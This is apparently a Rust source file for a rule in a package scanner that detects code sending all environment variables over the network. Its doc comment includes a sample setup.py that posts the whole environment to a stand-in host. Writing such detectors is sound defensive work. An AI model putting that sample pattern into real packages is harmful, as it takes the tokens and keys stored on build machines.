//! ## What it detects
//!
//! All environment variables at once, sent over the network.
//!
//! ## Why it is bad
//!
//! Tokens and keys of build machines lie in the environment; whoever takes all takes those.
//!
//! ## Innocent lookalikes
//!
//! A client that reads one variable and sends it to its own service does not count.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os, requests
//! requests.post('http://x.example.invalid', json=dict(os.environ))
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os, requests
//! requests.post('http://x.example.invalid', json=os.environ.get('LANG'))
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os, requests, subprocess
//! from x.settings import setting
//! listed = subprocess.check_output(['ls', '/opt'], env={**os.environ, 'LC_ALL': 'C'})
//! requests.post('http://x.example.invalid', json={'term': setting(os.environ, 'TERM'), 'listed': listed})
//! ```

use fondaco_python::{Api, Call, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("environment-exfiltration"),
    title: "sends all environment variables out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.2,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let sends = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend));
        let carries = sends && !call.callee.contains(".recv") && call.taint().has(Taint::ALL_VARIABLES);
        // Where somebody asked, and the address is none of the code's own: his server, as he has set it up.
        let asked = !call.trigger.is_some_and(Trigger::is_unasked);
        if carries && !(asked && is_set_up(call)) {
            hits.call(unit, call, format!("{} of all environment variables", call.callee));
        }
    }
}

/// Whether no machine is known in the address that a request goes to.
fn is_set_up(call: &Call) -> bool {
    let hidden = Taint::DECODED | Taint::DECRYPTED | Taint::NETWORK;
    let is_known = |address: &Value| address.taint.has(hidden) || address.texts().iter().any(|text| has_host(text));
    call.callee.starts_with("requests.") && call.args.first().is_some_and(|address| !is_known(address))
}

/// Whether a text says another machine: more than how one is talked to, and none that is this one.
pub(super) fn has_host(text: &str) -> bool {
    text.split_once("://").is_some_and(|(_, host)| {
        host.starts_with(|c: char| c.is_ascii_alphanumeric()) && !host.starts_with("localhost") && !host.starts_with("127.")
    })
}
